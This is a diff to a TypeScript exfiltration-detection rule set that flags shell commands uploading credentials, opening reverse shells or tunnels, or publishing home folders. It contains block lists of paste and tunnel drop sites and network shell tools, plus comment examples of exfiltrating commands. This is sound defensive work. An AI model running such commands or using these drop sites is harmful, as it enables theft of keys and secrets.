@@ -20,7 +20,7 @@ const CATEGORY = 'exfiltration';
 const DROP_SITES = /(?:^|\.)(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|dpaste\.\w+|transfer\.sh|file\.io|0x0\.st|termbin\.com|ix\.io|webhook\.site|requestbin\.\w+|pipedream\.net|ngrok\.io|ngrok-free\.app|trycloudflare\.com|oast\.\w+|interact\.sh|burpcollaborator\.net|anonfiles\.com|gofile\.io|catbox\.moe|temp\.sh|bashupload\.com|paste\.rs|paste\.c-net\.org|sprunge\.us|clbin\.com|rentry\.co|tmpfiles\.org|uguu\.se|pixeldrain\.com|filebin\.net|oshi\.at)$/;
 // Services a project sends data to as part of its work (code hosts, registries, CI and coverage
 // services, error trackers), and the organisation's own internal names (*.internal, *.corp).
-const WELL_KNOWN = /(?:^|\.)(?:github\.com|githubusercontent\.com|gitlab\.com|bitbucket\.org|npmjs\.org|npmjs\.com|pypi\.org|atlassian\.net|slack\.com|googleapis\.com|amazonaws\.com|azure\.com|sentry\.io|vercel\.com|netlify\.com|codecov\.io|coveralls\.io|sonarcloud\.io|codacy\.com|codeclimate\.com|snyk\.io|circleci\.com|buildkite\.com|datadoghq\.com|datadoghq\.eu)$|\.(?:internal|corp|intranet|lan|home\.arpa)$/;
+const WELL_KNOWN = /(?:^|\.)(?:openai\.com|anthropic\.com|mistral\.ai|groq\.com|openrouter\.ai|cohere\.(?:ai|com)|huggingface\.co|stripe\.com|twilio\.com|sendgrid\.com|mailgun\.net|postmarkapp\.com|pagerduty\.com|linear\.app|launchdarkly\.com|honeycomb\.io|newrelic\.com|grafana\.net|algolia\.net|supabase\.co|cloudflare\.com|github\.com|githubusercontent\.com|gitlab\.com|bitbucket\.org|npmjs\.org|npmjs\.com|pypi\.org|atlassian\.net|slack\.com|googleapis\.com|amazonaws\.com|azure\.com|sentry\.io|vercel\.com|netlify\.com|codecov\.io|coveralls\.io|sonarcloud\.io|codacy\.com|codeclimate\.com|snyk\.io|circleci\.com|buildkite\.com|datadoghq\.com|datadoghq\.eu)$|\.(?:internal|corp|intranet|lan|home\.arpa)$/;
 const UPLOAD_OPTS = ['-d', '--data', '--data-binary', '--data-raw', '--data-urlencode', '--data-ascii', '-F', '--form', '--form-string', '-T', '--upload-file', '--json'];
 const NET_TOOLS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
 const DNS_TOOLS = new Set(['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'traceroute', 'resolvectl']);
@@ -228,9 +228,15 @@ function inspectHttpUpload(cmd: SimpleCommand, ctx: RuleContext): void {
       const stdin = sensitiveStdin(cmd);
       if (stdin) return emit(ctx, stdin.severity, 'secret_upload', `Uploads ${stdin.what} to ${label}.`, external, stdin.path ? [stdin.path] : undefined);
     } else if (path) {
-      const risk = credentialRisk(path);
+      const risk = credentialRisk(path) ?? credentialDirEntry(path);
       if (risk) return emit(ctx, risk.severity === 'medium' ? 'high' : 'critical', 'secret_upload', `Uploads a credential file to ${label}: ${risk.label}.`, external, [path]);
     }
+  }
+  // `--data-urlencode name@file` reads the file too (and `-G` puts it in the URL).
+  for (const v of cmd.name === 'curl' ? optionValues(args, ['--data-urlencode']) : []) {
+    const at = /^[^=@]*@(.+)$/.exec(v);
+    const risk = at ? credentialRisk(at[1]) : null;
+    if (risk) return emit(ctx, 'critical', 'secret_upload', `Uploads a credential file to ${label}: ${risk.label}.`, external, [at![1]]);
   }
   for (const a of args) {
     const smuggled = a.includes('?') ? urlSmuggleFinding(a, 'Sends') : undefined;
@@ -287,6 +293,84 @@ function pipedShell(cmd: SimpleCommand): SimpleCommand | undefined {
     for (const other of stages[i]) if ((SHELLS.has(other.name) || POWERSHELL.has(other.name)) && (executesStdin(other) || other.args.includes('-i'))) return other;
   }
   return undefined;
+}
+
+// FTP, SMB and TFTP clients whose put commands send local files.
+const FILE_TRANSFER: ReadonlySet<string> = new Set(['lftp', 'smbclient', 'tftp', 'ncftpput', 'ftp', 'sftp']);
+
+/**
+ * A file named by a variable or glob inside a credential directory (`$HOME/.ssh/$f`, `~/.aws/*`,
+ * `~/.kube/{}`): which file is not known, but the directory holds only keys and tokens.
+ */
+function credentialDirEntry(path: string): { severity: Severity; label: string } | null {
+  const slash = path.lastIndexOf('/');
+  if (slash <= 0 || !/[$*?{`]/.test(path.slice(slash + 1))) return null;
+  const dir = credentialRisk(path.slice(0, slash));
+  return dir && dir.kind === 'credential_directory' ? { severity: 'critical', label: `files of ${dir.label}` } : null;
+}
+
+// Code-host CLI commands that store a secret where it belongs (`gh secret set X --body "$(…)"`) or manage keys.
+const CODE_HOST_STORES: ReadonlySet<string> = new Set(['secret', 'variable', 'auth', 'ssh-key', 'gpg-key', 'config']);
+
+/**
+ * The local files a cloud CLI's upload verb sends, beside the `cp`/`sync` forms judged with the
+ * buckets: `az storage blob|file upload --file F`, `aws s3api put-object --body F`, `b2 upload-file
+ * BUCKET F NAME`, `oci os object put --file F`. Undefined for every other command.
+ */
+function cloudUploadSources(cmd: SimpleCommand): string[] | undefined {
+  const a = cmd.args;
+  if (cmd.name === 'az' && a[0] === 'storage' && /^(?:upload|upload-batch)$/.test(a[2] ?? '')) return optionValues(a, ['--file', '-f', '--source', '-s']);
+  if (cmd.name === 'aws' && a[0] === 's3api' && (a[1] === 'put-object' || a[1] === 'upload-part')) return optionValues(a, ['--body']);
+  if (cmd.name === 'b2' && (a[0] === 'upload-file' || (a[0] === 'file' && a[1] === 'upload'))) return positionals(a).slice(-2, -1);
+  if (cmd.name === 'oci' && a[0] === 'os' && a[1] === 'object' && a[2] === 'put') return optionValues(a, ['--file', '-f']);
+  return undefined;
+}
+
+// gawk's network special file `/inet[46]/tcp|udp/LPORT/HOST/RPORT`, as the variable it is assigned to.
+const AWK_INET = /(?:(\w+)\s*=\s*)?"\/inet[46]?\/(?:tcp|udp)\/(\d+)\/([^/"]+)\/(\d+)"/;
+
+/**
+ * gawk talking to the network through `/inet/tcp/…`: when the program also runs commands (a
+ * `system()` call, or a variable other than the socket piped into getline, the command it read),
+ * whoever is at the other end drives a shell; otherwise it is a raw connection.
+ */
+function inspectAwkSocket(args: readonly string[], ctx: RuleContext): void {
+  for (const program of args) {
+    const m = AWK_INET.exec(program);
+    if (!m) continue;
+    const host = m[3] === '0' ? undefined : m[3];
+    if (host && isLocalHost(host)) return;
+    const runners = [...program.matchAll(/\(?\s*(\w+)\s*\|&?\s*getline/g)].some((r) => r[1] !== m[1]) || /\bsystem\s*\(/.test(program);
+    const where = host ? `to ${host} port ${m[4]}` : `listening on port ${m[2]}`;
+    if (runners) return emit(ctx, 'critical', 'reverse_shell', `gawk opens a network socket ${where} and runs the commands it reads from it (a ${host ? 'reverse' : 'bind'} shell).`, host ? [host] : undefined);
+    return emit(ctx, 'medium', 'raw_socket', `gawk opens a raw network connection ${where}.`, host ? [host] : undefined);
+  }
+}
+
+// socat address types that connect out to a host named in their second field (`TCP:h:443`,
+// `OPENSSL:h:443`, `SOCKS4A:proxy:h:80`); the others listen, or open files, pipes and the terminal.
+const SOCAT_CONNECT = /^(?:tcp[46]?|tcp[46]?-connect|openssl|openssl-connect|ssl|udp[46]?|udp[46]?-(?:connect|sendto|datagram)|socks[45]a?|proxy|proxy-connect|sctp[46]?-connect|dccp-connect)$/;
+
+/** The first non-local host a socat command connects to: a relay between two local ends (`TCP-LISTEN:8080 TCP:localhost:3000`) has none. */
+function socatRemoteHost(args: readonly string[]): string | undefined {
+  for (const a of positionals(args)) {
+    const fields = a.split(',')[0].split(':');
+    if (fields.length < 2 || !SOCAT_CONNECT.test(fields[0].toLowerCase())) continue;
+    const host = fields[1].replace(/^\[|\]$/g, '').toLowerCase();
+    if (host && !isLocalHost(host)) return host;
+  }
+  return undefined;
+}
+
+/**
+ * A `/dev/tcp` redirection that carries no data off the machine: a socket opened on this machine or
+ * its private network by `exec` or a data-free command (`exec 3<>/dev/tcp/127.0.0.1/6379`, `echo >
+ * /dev/tcp/localhost/8080`), or a port check that only reads (`timeout 1 bash -c '</dev/tcp/db/5432'`).
+ */
+function devTcpProbe(cmd: SimpleCommand, op: string, host: string): boolean {
+  const dataFree = cmd.name === '' || cmd.name === ':' || cmd.name === 'true' || ((cmd.name === 'echo' || cmd.name === 'printf') && cmd.args.every((a) => a === '' || a === '-n'));
+  if (op === '<' && dataFree) return true;
+  return isLocalHost(host) && (dataFree || cmd.name === 'exec');
 }
 
 function runsInput(cmd: SimpleCommand): boolean {
@@ -359,6 +443,7 @@ export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext)
     if (interactive || name === 'bash' || name === 'sh') emit(ctx, 'critical', 'reverse_shell', `Connects a shell to ${m[2]} over /dev/${m[1]} (a reverse shell).`, [m[2]]);
     else {
       const stdin = sensitiveStdin(cmd) ?? (credentialReadBy(cmd) ? { severity: 'critical' as Severity, what: 'credentials' } : null);
+      if (!stdin && devTcpProbe(cmd, r.op, m[2])) continue;
       emit(ctx, stdin ? 'critical' : 'high', 'raw_socket', `Sends ${stdin ? stdin.what : 'data'} to ${m[2]} over a raw /dev/${m[1]} socket.`, [m[2]]);
     }
   }
@@ -392,13 +477,50 @@ export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext)
       return emit(ctx, 'critical', 'reverse_shell', `${name} wires a shell to a network connection (a reverse or bind shell).`);
     }
     if (args.some((a) => /^-[a-z]*l/.test(a) || a === '--listen')) return;
-    const host = positionals(args).find((a) => /[a-z0-9]/i.test(a) && !/^\d+$/.test(a))?.replace(/^tcp:|:\d+$/gi, '');
+    // `nc -z host port` (zero-I/O mode) only knocks: it reports whether the port is open and sends nothing.
+    if (name !== 'socat' && name !== 'telnet' && args.some((a) => /^-[a-y]*z[a-y]*$/i.test(a) || a === '--zero')) return;
+    const host = name === 'socat' ? socatRemoteHost(args) : positionals(args).find((a) => /[a-z0-9]/i.test(a) && !/^\d+$/.test(a))?.replace(/^tcp:|:\d+$/gi, '');
     if (!host || isLocalHost(host)) return;
     const stdin = sensitiveStdin(cmd) ?? (credentialReadBy(cmd) ? { severity: 'critical' as Severity, what: 'credentials' } : null);
+    // An unqualified name (`nc memcached 11211`, `redis 6379`) is a compose service or a hosts alias on this network.
+    if (!stdin && !host.includes('.') && !host.includes(':')) return;
     emit(ctx, stdin ? stdin.severity : 'medium', stdin ? 'secret_upload' : 'raw_socket', stdin ? `Sends ${stdin.what} to ${host} over a raw TCP connection.` : `Opens a raw network connection to ${host}.`, [host]);
     return;
   }
+  if ((name === 'awk' || name === 'gawk') && args.some((a) => a.includes('/inet'))) return inspectAwkSocket(args, ctx);
+  if ((name === 'gh' || name === 'glab' || name === 'tea') && !CODE_HOST_STORES.has(args[0] ?? '')) {
+    // Text a code-host CLI publishes (an issue or PR body, a comment, a gist, release notes, an API
+    // field) that is the output of a secret read: anyone who can read the repository reads it.
+    const sub = sensitiveSubstitution(cmd.argv);
+    if (sub) return emit(ctx, sub.severity, 'secret_publish', `${name} ${args[0] ?? ''} publishes ${sub.what} on the code host, where everyone with access to the repository can read it.`);
+    const file = optionValues(args, ['-F', '--body-file', '--notes-file', '--description-file']).find((f) => credentialRisk(f));
+    if (file) return emit(ctx, 'critical', 'secret_publish', `${name} ${args[0] ?? ''} publishes ${credentialRisk(file)!.label} on the code host.`, undefined, [file]);
+    return;
+  }
+  const uploaded = cloudUploadSources(cmd);
+  if (uploaded) {
+    for (const src of uploaded) {
+      const risk = credentialRisk(src);
+      if (risk) return emit(ctx, 'critical', 'secret_copy', `${name} uploads ${risk.label} to cloud storage.`, [], [src]);
+    }
+    const root = rootCopied(uploaded);
+    if (root) return emit(ctx, 'high', 'secret_copy', `${name} uploads ${root.label} to cloud storage.`, [], [root.path]);
+  }
   if (MAIL_CLIENTS.has(name)) return inspectMail(cmd, ctx);
+  if (FILE_TRANSFER.has(name) && (name !== 'sftp' || cmd.redirects.some((r) => r.op.startsWith('<<')))) {
+    // The files a transfer client is told to send: `lftp -e "put F"`, `smbclient -c 'put F'`,
+    // `tftp h -c put F`, `ncftpput host dir F…`, `ftp`/`sftp` batch text in a here-document.
+    const script = [...optionValues(args, ['-e', '-c']), ...cmd.redirects.filter((r) => r.op.startsWith('<<')).map((r) => r.target.text)].join('\n');
+    const sent = [...script.matchAll(/(?:^|[\s;])m?put\s+(?:-\w+\s+)*([^\s;]+)/g)].map((m) => m[1].replace(/^['"]|['"]$/g, ''));
+    if (name === 'ncftpput' || (name === 'tftp' && args.includes('put'))) sent.push(...positionals(args).slice(name === 'ncftpput' ? 2 : 1));
+    for (const f of sent) {
+      const risk = credentialRisk(f);
+      if (risk) return emit(ctx, 'critical', 'secret_copy', `${name} uploads ${risk.label} to a remote server.`, undefined, [f]);
+    }
+    const root = rootCopied(sent);
+    if (root) return emit(ctx, 'high', 'secret_copy', `${name} uploads ${root.label} to a remote server.`, undefined, [root.path]);
+    return;
+  }
   if (name === 'scp' || name === 'rsync' || name === 'sftp' || name === 'rclone') {
     // Option values (`--exclude .env`, `-i KEY`) are not operands.
     const pos = copyOperands(cmd) ?? positionals(args);
@@ -445,7 +567,7 @@ export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext)
     if (root) emit(ctx, 'high', 'secret_copy', `Sends ${root.label} off the machine with ${name}.`, [], [root.path]);
     return;
   }
-  if (name === 'ssh') return inspectSsh(cmd, ctx);
+  if (name === 'ssh' || name === 'autossh' || name === 'plink') return inspectSsh(cmd, ctx);
   if (name === 'ngrok' && args[0] === 'tcp') return tunnel(ctx, portOf(args[1]), `ngrok exposes local TCP port ${args[1] ?? ''} to the internet`);
   if (name === 'bore' && args[0] === 'local') return tunnel(ctx, portOf(args[1]), `bore exposes local port ${args[1] ?? ''} through ${optionValues(args, ['--to', '-t'])[0] ?? 'a public relay'}`);
   if (name === 'cloudflared' && args.includes('tunnel')) {
@@ -459,7 +581,7 @@ export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext)
     return;
   }
   if ((name === 'python3' || name === 'python') && args[0] === '-m' && args[1] === 'http.server') return inspectHttpServer(args, ctx);
-  if (STATIC_SERVERS.has(name) || (name === 'ngrok' && args[0] === 'http') || (name === 'php' && args.includes('-S')) || (name === 'ruby' && args.includes('-run'))) return inspectStaticServer(cmd, ctx);
+  if (SITE_PUBLISHERS.has(name) || (name === 'ngrok' && args[0] === 'http') || (name === 'php' && args.includes('-S')) || (name === 'ruby' && args.includes('-run'))) return inspectSitePublish(cmd, ctx);
   if (name === 'npm' && args[0] === 'publish') {
     const reg = optionValues(args, ['--registry'])[0];
     const host = reg ? urlHosts(reg)[0] : undefined;
@@ -494,19 +616,67 @@ const SSH_VALUE_OPTS: ReadonlySet<string> = new Set(['-b', '-c', '-D', '-E', '-e
 // Public reverse-tunnel relays: `ssh -R` to them publishes a local port on the internet.
 const TUNNEL_RELAYS = /(?:^|\.)(?:serveo\.net|localhost\.run|pinggy\.io|localtunnel\.me|ssh\.localhost\.run|tunnel\.pyjam\.as)$/;
 
-/** `producer | ssh host 'cat > f'` carries the data to the host; `ssh -R … relay` exposes a local port. */
+// autossh's own monitor option takes a value (ssh's -M is a flag); PuTTY's plink names the port -P and a password -pw.
+const AUTOSSH_VALUE_OPTS: ReadonlySet<string> = new Set([...SSH_VALUE_OPTS, '-M']);
+const PLINK_VALUE_OPTS: ReadonlySet<string> = new Set([...SSH_VALUE_OPTS, '-P', '-pw', '-hostkey', '-sercfg', '-proxycmd']);
+
+/** The destination: the first word that is neither an option nor an option's value (a flag cluster `-fNR` takes one when its last letter does). */
+function sshDestination(args: readonly string[], valueOpts: ReadonlySet<string>): string | undefined {
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i];
+    if (a === '--') return args[i + 1];
+    if (!a.startsWith('-') || a === '-') return a;
+    if (valueOpts.has(a) || (/^-[A-Za-z]{2,}$/.test(a) && valueOpts.has(`-${a[a.length - 1]}`))) i++;
+  }
+  return undefined;
+}
+
+/**
+ * The remote forward a command asks for: `-R SPEC`, `-RSPEC`, a flag cluster ending in R (`-fNR SPEC`),
+ * `-o RemoteForward=SPEC` or `-oRemoteForward="PORT HOST:PORT"`. The spec, or undefined.
+ */
+function remoteForward(args: readonly string[]): string | undefined {
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i];
+    if (/^-[A-Za-z]*R$/.test(a)) return args[i + 1] ?? '';
+    if (a.startsWith('-R')) return a.slice(2);
+    const opt = a === '-o' ? args[i + 1] : a.startsWith('-o') ? a.slice(2) : undefined;
+    if (opt && /^remoteforward\b/i.test(opt)) return opt.replace(/^remoteforward\s*=?\s*/i, '').trim().split(/\s+/).pop() ?? '';
+  }
+  return undefined;
+}
+
+/**
+ * `producer | ssh host 'cat > f'` carries the data to the host; `ssh -R … host` publishes a port of
+ * this machine (or of a host on its network) on the far host: whoever reaches that host reaches it.
+ */
 function inspectSsh(cmd: SimpleCommand, ctx: RuleContext): void {
-  const dest = positionals(cmd.args, SSH_VALUE_OPTS)[0];
+  const dest = sshDestination(cmd.args, cmd.name === 'autossh' ? AUTOSSH_VALUE_OPTS : cmd.name === 'plink' ? PLINK_VALUE_OPTS : SSH_VALUE_OPTS);
   const host = dest?.replace(/^[^@]*@/, '').toLowerCase();
   if (!host || isLocalHost(host)) return;
   const stdin = sensitiveStdin(cmd);
   if (stdin) return emit(ctx, stdin.severity, 'secret_upload', `Sends ${stdin.what} to ${host} over ssh.`, [host], stdin.path ? [stdin.path] : undefined);
-  // `-R SPEC` or the attached `-RSPEC` (`-R0:localhost:22`).
-  const at = cmd.args.findIndex((a) => a.startsWith('-R'));
-  if (at >= 0 && TUNNEL_RELAYS.test(host)) {
-    const spec = cmd.args[at] === '-R' ? cmd.args[at + 1] : cmd.args[at].slice(2);
-    tunnel(ctx, portOf(spec), `Opens a reverse tunnel through the public relay ${host}, exposing a local port to the internet`, [host]);
+  // The whole working tree archived into ssh (`tar czf - . | ssh u@203.0.113.5 'cat > s.tgz'`) to an
+  // unnamed address: its .env files and keys go with it. A named host is the team's deploy target.
+  if (cmd.stage > 0 && isIpHost(host) && upstream(cmd).some((u) => ARCHIVERS.has(u.name) && u.args.some((a) => a === '.' || a === './' || a === '*'))) {
+    return emit(ctx, 'high', 'project_upload', `Archives the whole working directory and sends it over ssh to the bare IP address ${host}.`, [host]);
   }
+  const spec = remoteForward(cmd.args);
+  if (spec === undefined) return;
+  if (TUNNEL_RELAYS.test(host)) return tunnel(ctx, portOf(spec), `Opens a reverse tunnel through the public relay ${host}, exposing a local port to the internet`, [host]);
+  // A bare port (`-R 1080`) is a reverse SOCKS proxy: the far host reaches every address this machine can.
+  if (/^\d+$/.test(spec)) return emit(ctx, 'medium', 'reverse_tunnel', `${cmd.name} opens a reverse SOCKS proxy on ${host} (port ${spec}): whoever can reach ${host} reaches every address this machine can.`, [host]);
+  const parts = spec.replace(/\[[^\]]*\]/g, 'v6').split(':');
+  const target = parts.length >= 3 ? parts[parts.length - 2].toLowerCase() : 'localhost';
+  const bindAll = parts.length === 4 && (parts[0] === '' || parts[0] === '*' || parts[0] === '0.0.0.0');
+  const port = portOf(spec);
+  // A web or debug port of this machine handed to a known host (`-R 9000:localhost:9000 ci`) is
+  // routine; a login port, a port bound on every interface of the far host, or another machine
+  // of this network published there is not.
+  const self = /^(?:localhost|127(?:\.\d{1,3}){3}|v6)$/.test(target);
+  if (!(port !== undefined && REMOTE_LOGIN_PORTS[port]) && !bindAll && self) return;
+  const what = self ? `port ${port ?? spec} of this machine` : `${target}:${port ?? '?'}, a host on this machine's network,`;
+  tunnel(ctx, port, `${cmd.name} opens a reverse tunnel that publishes ${what} on ${host}${bindAll ? ' on every interface' : ''} (remote forward ${spec}), reachable by whoever can reach ${host}`, [host]);
 }
 
 // Ports that give a login to the machine: SSH, telnet, RDP, VNC, WinRM.
@@ -537,37 +707,44 @@ function inspectHttpServer(args: readonly string[], ctx: RuleContext): void {
   emit(ctx, 'high', 'serve_home', `Serves ${dir} over HTTP on ${bind ?? 'every interface'}, publishing the home folder's files (keys, credentials) to the network.`);
 }
 
-// Static file servers that serve a directory given as an argument (npx http-server DIR, serve DIR).
-const STATIC_SERVERS: ReadonlySet<string> = new Set(['http-server', 'serve', 'live-server', 'httpd', 'busybox', 'miniserve', 'caddy']);
-const HOME_OR_ROOT = /^(?:~\/?|\$\{?HOME\}?\/?|\/|\/(?:home|Users)\/[^/]+\/?|\/(?:home|Users)\/?)$/;
+// Static-site publishers and file servers that take the folder to publish as an operand or option.
+const SITE_PUBLISHERS: ReadonlySet<string> = new Set(['surge', 'netlify', 'vercel', 'gh-pages', 'wrangler', 'serve', 'http-server', 'firebase', 'live-server', 'httpd', 'busybox', 'miniserve', 'caddy']);
+const HOME_OR_ROOT = /^(?:~|\$\{?HOME\}?|\/(?:home|Users)\/[^/]+|\/(?:home|Users)|\/)\/?$|^(?:~|\$\{?HOME\}?|\/(?:home|Users)\/[^/]+)\/(?:\.ssh|\.aws|\.gnupg|\.config|\.kube|Documents|Desktop|Downloads)\/?$/;
 
 /**
- * The directory a static file server publishes: `npx http-server ~`, `serve ~`, `php -S 0.0.0.0:8000
- * -t ~`, `ruby -run -e httpd ~`, `busybox httpd -h ~`, `miniserve ~`, `caddy file-server --root ~`,
- * and `ngrok http file:///home/u` (through a public relay). Served from the home folder or the root,
- * the keys and credentials there go to whoever asks, as `python -m http.server -d ~` (above).
+ * `surge ~ x.surge.sh`, `netlify deploy --dir ~`, `vercel ~`, `gh-pages -d ~`, `npx serve ~`: the
+ * home folder (or the filesystem root, or a credential folder) published as a website or served to
+ * the network, every key and credential file in it readable by whoever finds the address.
  */
-function inspectStaticServer(cmd: SimpleCommand, ctx: RuleContext): void {
-  const args = cmd.args;
-  let dir: string | undefined;
-  let where = 'the network';
-  if (cmd.name === 'ngrok') {
-    const spec = args.find((a) => /^file:\/\//i.test(a));
-    dir = spec?.slice(7);
-    where = 'the internet, through the ngrok relay';
-  } else if (cmd.name === 'php') {
-    // `php -S localhost:8000`: bound to this machine only, as `http.server --bind 127.0.0.1` is.
-    const bind = optionValues(args, ['-S'])[0]?.replace(/:\d+$/, '');
-    if (bind && bind !== '0.0.0.0' && isLocalHost(bind)) return;
-    dir = optionValues(args, ['-t'])[0];
-  }
-  else if (cmd.name === 'ruby') dir = args[args.indexOf('httpd') + 1];
-  else if (cmd.name === 'busybox') dir = args[0] === 'httpd' ? optionValues(args, ['-h'])[0] : undefined;
-  else if (cmd.name === 'caddy') dir = args[0] === 'file-server' ? optionValues(args, ['--root', '-r'])[0] : undefined;
-  else dir = positionals(args, new Set(['-p', '--port', '-a', '--address', '-l', '--listen', '-c', '-i', '--interfaces'])).find((a) => !/^\d+$/.test(a));
-  if (dir === undefined || !HOME_OR_ROOT.test(dir)) return;
-  emit(ctx, 'high', 'serve_home', `${cmd.name} serves ${dir} to ${where}, publishing the home folder's files (keys, credentials).`);
+function inspectSitePublish(cmd: SimpleCommand, ctx: RuleContext): void {
+  const dir = publishedDirs(cmd).find((d) => HOME_OR_ROOT.test(d));
+  if (dir) emit(ctx, 'high', 'publish_home', `${cmd.name} publishes ${dir} to the network as a site, exposing every key and credential file in it to whoever finds the address.`, undefined, [dir]);
 }
+/**
+ * The folders a publisher or file server is given: operands and the folder options, and the
+ * servers' own spellings: `ngrok http file:///home/u` (through the public relay), `php -S host -t
+ * DIR` (not when bound to this machine only, as `http.server --bind 127.0.0.1`), `ruby -run -e
+ * httpd DIR`, `busybox httpd -h DIR`, `caddy file-server --root DIR`.
+ */
+function publishedDirs(cmd: SimpleCommand): string[] {
+  const args = cmd.args;
+  switch (cmd.name) {
+    case 'ngrok':
+      return args.filter((a) => /^file:\/\//i.test(a)).map((a) => a.slice(7));
+    case 'php': {
+      const bind = optionValues(args, ['-S'])[0]?.replace(/:\d+$/, '');
+      return bind && bind !== '0.0.0.0' && isLocalHost(bind) ? [] : optionValues(args, ['-t']);
+    }
+    case 'ruby':
+      return args.includes('httpd') ? [args[args.indexOf('httpd') + 1] ?? ''] : [];
+    case 'busybox':
+      return args[0] === 'httpd' ? optionValues(args, ['-h']) : [];
+    case 'caddy':
+      return args[0] === 'file-server' ? optionValues(args, ['--root', '-r']) : [];
+  }
+  return [...positionals(args, SITE_VALUE_OPTS), ...optionValues(args, ['--dir', '-d', '--project', '--public', '--directory'])];
+}
+const SITE_VALUE_OPTS: ReadonlySet<string> = new Set(['--address', '-i', '--interfaces', '--domain', '--token', '--site', '--auth', '-a', '--message', '-m', '--alias', '--scope', '--project-name', '--branch', '-p', '--port', '-l', '--listen', '--only', '-b', '--dir', '-d', '--project', '--public', '--directory']);
 
 const SCREENSHOTS: ReadonlySet<string> = new Set(['screencapture', 'scrot', 'grim']);
 // Programs whose output redirected to a file is worth remembering (dumps, token printers, secret stores, the environment).
@@ -637,6 +814,11 @@ export function inspectStagedUploads(script: Script, ctx: RuleContext): void {
       }
       continue;
     }
+    if (staged && (c.name === 'aws' || c.name === 'gsutil' || c.name === 'gcloud' || c.name === 'rclone' || c.name === 'scp')) {
+      const hit = stagedCopy(c, staged);
+      if (hit) return emit(ctx, 'high', 'secret_upload', `Uploads ${hit.what}, staged in ${hit.file}, to ${hit.dest}.`, hit.host ? [hit.host] : [], [hit.file]);
+      continue;
+    }
     // Cheap gate first: most commands with a redirection write logs or build output.
     if (!ARCHIVERS.has(c.name) && !SCREENSHOTS.has(c.name) && !(c.redirects.length > 0 && STAGERS.has(c.name))) continue;
     const produced = producedSecret(c);
@@ -644,6 +826,31 @@ export function inspectStagedUploads(script: Script, ctx: RuleContext): void {
     const file = stagedFile(c);
     if (file) (staged ??= new Map()).set(file, produced.what);
   }
+}
+
+// A bucket or remote named for the organisation's own backups keeps a dump where dumps belong.
+const BACKUP_DEST = /backup|archive|snapshot|dr-|disaster/i;
+
+/**
+ * A copy command whose source is a file an earlier command staged secrets or a dump in, and whose
+ * destination is off the machine: a bucket (`aws s3 cp`, `gsutil cp`, `gcloud storage cp`), an
+ * rclone remote or an scp host. Not when the destination is named as a backup store.
+ */
+function stagedCopy(c: SimpleCommand, staged: ReadonlyMap<string, string>): { file: string; what: string; dest: string; host?: string } | undefined {
+  const a = c.args;
+  const copy = (c.name === 'aws' && a[0] === 's3' && (a[1] === 'cp' || a[1] === 'mv')) || (c.name === 'gsutil' && /^(?:cp|mv)$/.test(positionals(a)[0] ?? '')) || (c.name === 'gcloud' && a[0] === 'storage' && (a[1] === 'cp' || a[1] === 'mv')) || (c.name === 'rclone' && /^(?:copy|copyto|move|moveto|sync)$/.test(a[0] ?? '')) || c.name === 'scp';
+  if (!copy) return undefined;
+  const pos = copyOperands(c) ?? positionals(a);
+  // (An option's value, `--profile personal`, may follow the bucket: the bucket is the URL.)
+  const dest = (c.name === 'scp' || c.name === 'rclone' ? pos[pos.length - 1] : pos.find((p) => /^(?:s3|gs):\/\//.test(p))) ?? '';
+  const host = c.name === 'scp' ? remoteSpecHost(dest) : undefined;
+  const remote = c.name === 'scp' ? host !== undefined && !isLocalHost(host) : c.name === 'rclone' ? /^[\w-]+:/.test(dest) : /^(?:s3|gs):\/\//.test(dest);
+  if (!remote || BACKUP_DEST.test(dest)) return undefined;
+  for (const src of pos) {
+    const what = src === dest ? undefined : staged.get(src);
+    if (what) return { file: src, what, dest, host };
+  }
+  return undefined;
 }
 
 // Files the project runs later, on a developer's machine or in CI, without the agent's call being
